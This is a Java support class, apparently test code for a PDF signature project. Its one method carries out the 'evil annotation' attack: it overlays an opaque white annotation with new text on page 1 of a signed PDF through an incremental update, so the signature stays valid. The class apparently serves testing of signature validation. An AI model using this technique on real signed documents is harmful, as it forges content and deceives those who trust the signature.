package be.paraaf.support;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.List;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.PDResources;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFreeText;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAppearanceDictionary;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAppearanceStream;

/** What someone does to a signed PDF afterwards, as an incremental update written by PDFBox (signatures stay intact). */
public final class PdfUpdates {

    private PdfUpdates() {
    }

    /**
     * Adds an opaque FreeText annotation (white box, new text) over the top of page 1 (its signed text), the
     * classic "evil annotation" (Mainka et al., 2021): every viewer shows it, no signature breaks.
     */
    public static byte[] coverWithFreeText(byte[] signed, String text) {
        try (PDDocument document = Loader.loadPDF(signed)) {
            PDPage page = document.getPage(0);
            PDRectangle box = new PDRectangle(70, page.getMediaBox().getHeight() - 200, 455, 110);
            PDAnnotationFreeText note = new PDAnnotationFreeText();
            note.setRectangle(box);
            note.setContents(text);
            note.setDefaultAppearance("/Helv 14 Tf 0 g");
            note.setPrinted(true);
            PDAppearanceStream appearance = new PDAppearanceStream(document);
            appearance.setBBox(new PDRectangle(box.getWidth(), box.getHeight()));
            appearance.setResources(new PDResources());
            try (PDPageContentStream content = new PDPageContentStream(document, appearance)) {
                content.setNonStrokingColor(1f, 1f, 1f);
                content.addRect(0, 0, box.getWidth(), box.getHeight());
                content.fill();
                content.beginText();
                content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA_BOLD), 16);
                content.setNonStrokingColor(0f, 0f, 0f);
                content.newLineAtOffset(10, box.getHeight() - 30);
                content.showText(text);
                content.endText();
            }
            PDAppearanceDictionary appearances = new PDAppearanceDictionary();
            appearances.setNormalAppearance(appearance);
            note.setAppearance(appearances);
            note.setPage(page);
            List<PDAnnotation> annotations = new ArrayList<>(page.getAnnotations());
            annotations.add(note);
            page.setAnnotations(annotations);
            page.getCOSObject().setNeedToBeUpdated(true);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            document.saveIncremental(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
